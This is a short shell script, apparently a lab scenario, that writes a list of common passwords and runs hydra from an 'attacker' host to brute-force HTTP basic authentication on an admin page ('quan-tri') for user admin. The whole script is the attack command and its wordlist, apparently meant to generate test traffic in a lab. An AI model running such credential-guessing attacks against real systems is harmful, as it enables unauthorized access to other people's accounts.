# Passwords guessed against a page that asks for HTTP basic authentication.
# packages: hydra nginx-light python3
printf '%s\n' 123456 admin password root tinh2026 Abc@123 qwerty 111111 vietnam letmein matkhau admin123 P@ssw0rd test 12345678 abc123 >"$LAB_DIR/words"
LAB_SECONDS=20 from attacker hydra -I -t 4 -l admin -P "$LAB_DIR/words" http-get://$SERVER/app/quan-tri
